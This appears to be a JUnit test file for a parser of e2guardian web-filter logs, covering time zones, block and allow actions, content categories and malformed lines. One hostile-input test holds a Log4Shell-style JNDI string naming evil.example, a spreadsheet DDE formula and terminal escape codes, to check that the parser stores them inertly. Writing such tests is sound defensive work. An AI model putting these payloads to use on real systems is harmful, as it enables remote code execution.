package org.trustwatch.ingest.proxy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.trustwatch.ingest.proxy.RecordingSink.context;
import static org.trustwatch.ingest.proxy.RecordingSink.one;
import static org.trustwatch.ingest.proxy.RecordingSink.parse;
import static org.trustwatch.ingest.proxy.RecordingSink.rejected;

import java.time.Instant;
import java.time.ZoneId;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.trustwatch.ingest.LogFormat;
import org.trustwatch.ingest.category.WebCategories;
import org.trustwatch.schema.ProxyEvent;
import org.trustwatch.schema.WebAction;

class E2guardianParserTest {

    /** The columns after mimetype with e2guardian's defaults: clienthost groupname useragent params logid1 logid2 postdata. */
    private static final String TAIL = " 10.20.1.15 Staff - -   -";

    private static final String DENIED = "2024.3.5 14:02:11 jsmith 10.20.1.15"
            + " http://www.pornhub.com/view_video.php?viewkey=ph5e *DENIED* Blocked site: pornhub.com GET 0 0"
            + " Pornography 1 403 text/html" + TAIL;

    private final WebCategories categories =
            Map.of("classroom.google.com", "education", "www.roblox.com", "games")::get;

    private E2guardianParser parser() {
        return new E2guardianParser(context(categories));
    }

    @Test
    void readsADenialInTheSchoolsTimeZone() {
        ProxyEvent event = one(parser(), DENIED);

        assertEquals(Instant.parse("2024-03-05T14:02:11Z"), event.getTimestamp(), "GMT in March");
        assertEquals("e2guardian", event.getEventDataset());
        assertEquals("jsmith", event.getUserName());
        assertEquals("10.20.1.15", event.getSourceIp());
        assertEquals("GET", event.getHttpRequestMethod());
        assertEquals("http", event.getUrlScheme());
        assertEquals("www.pornhub.com", event.getUrlDomain());
        assertEquals("/view_video.php", event.getUrlPath());
        assertEquals("php", event.getUrlExtension());
        assertEquals(403, event.getHttpResponseStatusCode());
        assertEquals(0L, event.getHttpResponseBytes());
        assertEquals("text/html", event.getHttpResponseMimeType());
        assertNull(event.getProxyResultCode());
        assertEquals(WebAction.blocked, event.getWebAction());
        assertEquals("adult", event.getWebCategory());
        assertEquals("log", event.getWebCategorySource());
    }

    @Test
    void summerTimeIsReadAsBritishSummerTime() {
        ProxyEvent event = one(parser(), DENIED.replace("2024.3.5 14:02:11", "2024.06.12 13:40:02"));
        assertEquals(Instant.parse("2024-06-12T12:40:02Z"), event.getTimestamp());
        ProxyEvent unpadded = one(parser(), DENIED.replace("2024.3.5 14:02:11", "2024.6.12 9:40:02"));
        assertEquals(Instant.parse("2024-06-12T08:40:02Z"), unpadded.getTimestamp());

        ProxyEvent utc = one(
                new E2guardianParser(context(categories, ZoneId.of("UTC"))),
                DENIED.replace("2024.3.5 14:02:11", "2024.06.12 13:40:02"));
        assertEquals(Instant.parse("2024-06-12T13:40:02Z"), utc.getTimestamp());
    }

    @Test
    void readsAllowedRequestsWithBlankColumnsAndFallsBackToTheList() {
        RecordingSink sink = parse(
                parser(),
                "2024.06.12 13:40:02 21smithj 10.20.4.33 https://classroom.google.com:443 - CONNECT 0 0 - 1 200 -"
                        + " 10.20.4.33 Pupils - -   -",
                "2024.06.12 13:40:05 21smithj 10.20.4.33 http://www.bbc.co.uk/bitesize *EXCEPTION* Exception site"
                        + " match: bbc.co.uk GET 48211 0 - 1 200 text/html; charset=utf-8 10.20.4.33 Pupils - -   -",
                "2024.06.12 13:41:00 21smithj 10.20.4.33 http://www.roblox.com/games *SCANNED* - GET 81200 0 - 1"
                        + " 200 text/html 10.20.4.33 Pupils - -   -");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);

        ProxyEvent connect = sink.events.get(0);
        assertEquals("CONNECT", connect.getHttpRequestMethod());
        assertEquals("classroom.google.com", connect.getUrlDomain());
        assertEquals(443, connect.getUrlPort());
        assertEquals(200, connect.getHttpResponseStatusCode());
        assertNull(connect.getHttpResponseMimeType());
        assertEquals(WebAction.allowed, connect.getWebAction());
        assertEquals("education", connect.getWebCategory());
        assertEquals("list", connect.getWebCategorySource());

        ProxyEvent exception = sink.events.get(1);
        assertEquals(WebAction.allowed, exception.getWebAction());
        assertEquals(48211L, exception.getHttpResponseBytes());
        assertNull(exception.getWebCategory());

        assertEquals("games", sink.events.get(2).getWebCategory());
        assertEquals(WebAction.allowed, sink.events.get(2).getWebAction());
    }

    @Test
    void weightedPhraseBlocksKeepTheMostSeriousOfSeveralCategories() {
        ProxyEvent event = one(
                parser(),
                "2024.03.05 10:15:40 22jonesk 10.20.5.61 http://www.example.org/story.html *DENIED* Weighted"
                        + " phrase limit of 50 : 120 (gore+kill) GET 15320 120 Gambling, Gore, Violence 2 403"
                        + " text/html 10.20.5.61 Pupils - -   -");
        assertEquals(WebAction.blocked, event.getWebAction());
        assertEquals("violence", event.getWebCategory());
        assertEquals(15320L, event.getHttpResponseBytes());
        assertEquals("html", event.getUrlExtension());
    }

    @Test
    void virusesAndBlocksWithoutFlagsAreBlocked() {
        ProxyEvent virus = one(
                parser(),
                "2024.03.05 10:20:00 jsmith 10.20.1.15 http://dl.example.net/eicar.com *INFECTED* Virus or bad"
                        + " content detected. Eicar-Signature GET 68 0 - 1 403 application/octet-stream" + TAIL);
        assertEquals(WebAction.blocked, virus.getWebAction());
        assertEquals("com", virus.getUrlExtension());

        ProxyEvent unflagged = one(
                parser(),
                "2024.03.05 10:20:01 jsmith 10.20.1.15 http://www.bet365.com/ Blocked site: bet365.com GET 0 0"
                        + " gambling 1 403 text/html" + TAIL);
        assertEquals(WebAction.blocked, unflagged.getWebAction(), "without flags, 403 with a reason is a block");
        assertEquals("gambling", unflagged.getWebCategory(), "UT1 directory names are filter categories too");

        ProxyEvent forbiddenByTheSite = one(
                parser(),
                "2024.03.05 10:20:02 jsmith 10.20.1.15 http://www.example.com/private - GET 512 0 - 1 403"
                        + " text/html" + TAIL);
        assertEquals(WebAction.allowed, forbiddenByTheSite.getWebAction());
    }

    @Test
    void readsTheEpochTimeOfLogTimestampAnonymisedLinesAndSyslogHeaders() {
        ProxyEvent stamped = one(
                parser(),
                "2024.03.05 09:12:11 1709629931.456 jsmith 10.20.1.15 http://www.example.com/ - GET 512 0 - 1 200"
                        + " text/html" + TAIL);
        assertEquals(Instant.parse("2024-03-05T09:12:11.456Z"), stamped.getTimestamp());
        assertEquals("jsmith", stamped.getUserName());

        ProxyEvent anonymous = one(
                parser(),
                "2024.03.05 09:12:11  0.0.0.0 http://www.example.com/ - GET 512 0 - 1 200 text/html  Staff - -   -");
        assertNull(anonymous.getUserName());
        assertNull(anonymous.getSourceIp());

        ProxyEvent syslogged = one(parser(), "Mar  5 14:02:11 filter1 e2guardian[2211]: " + DENIED);
        assertEquals("filter1", syslogged.getObserverHostname());
        assertEquals(Instant.parse("2024-03-05T14:02:11Z"), syslogged.getTimestamp());

        ProxyEvent domainUser = one(parser(), DENIED.replace(" jsmith ", " WOH\\jsmith "));
        assertEquals("jsmith", domainUser.getUserName());
    }

    @Test
    void rejectsOtherFormatsAndTruncatedLines() {
        assertTrue(rejected(
                        parser(),
                        "1709629931.123    161 10.20.1.15 TCP_MISS/200 1037 GET http://a.example/ -"
                                + " HIER_DIRECT/1.2.3.4 text/html")
                .startsWith("fields 1-2 (date time) '1709629931.123"));
        assertTrue(rejected(parser(), DENIED.replace("2024.3.5", "2024.13.5"))
                .startsWith("fields 1-2 (date time) '2024.13.5 14:02:11'"));
        assertTrue(rejected(parser(), DENIED.replace("14:02:11", "14:02")).startsWith("fields 1-2 (date time)"));
        assertTrue(rejected(parser(), "2024.3.5 14:02:11 jsmith 10.20.1.15 http://www.pornhub.com/ *DENIED* Blocked")
                .startsWith("no 'method size weight' columns (e.g. 'GET 5120 0') after the URL"));
        assertTrue(rejected(
                        parser(),
                        "2024.3.5 14:02:11 jsmith 10.20.1.15 http://www.pornhub.com/ *DENIED* Blocked"
                                + " site: pornhub.com GET 0 0 Pornography")
                .startsWith("no 'filtergroup status' columns (e.g. '1 403') after the category"));
        assertTrue(rejected(parser(), "2024.3.5").startsWith("has 1 field(s), an e2guardian format 1 line reads"));
    }

    @Test
    void skipsBlankAndCommentLines() {
        RecordingSink sink = parse(parser(), "", "  ", "# e2guardian started");
        assertTrue(sink.events.isEmpty());
        assertTrue(sink.rejects.isEmpty());
    }

    @Test
    void handlesHostileInput() {
        ProxyEvent injected = one(
                parser(),
                "2024.3.5 14:02:11 ${jndi:ldap://evil.example/a} 10.20.1.15 http://x.example/=cmd|'/C%20calc'!A0"
                        + " *DENIED* Blocked\u0007 site:\u001b[2J x GET 0 0 Pornography 1 403 text/html" + TAIL);
        assertEquals("${jndi:ldap://evil.example/a}", injected.getUserName());
        assertEquals(WebAction.blocked, injected.getWebAction());
        RecordingSink.assertNoControls(injected);

        ProxyEvent replacement = one(parser(), DENIED.replace("jsmith", "j\uFFFDsmith"));
        assertEquals("j\uFFFDsmith", replacement.getUserName());

        ProxyEvent longReason = one(parser(), DENIED.replace("Blocked site:", "Blocked site: " + "w ".repeat(1000)));
        assertEquals(WebAction.blocked, longReason.getWebAction());

        String tooMany = rejected(parser(), "2024.3.5 14:02:11 " + "w ".repeat(1 << 19));
        assertEquals("has more than 2048 fields: not an e2guardian format 1 line", tooMany);

        String huge = rejected(parser(), "z".repeat(1 << 20) + " 14:02:11");
        assertTrue(huge.length() < 200, huge);
    }

    @Test
    void isTheParserOfTheE2guardianFormat() {
        assertTrue(LogFormat.named("e2guardian").newParser(context(categories)) instanceof E2guardianParser);
    }
}
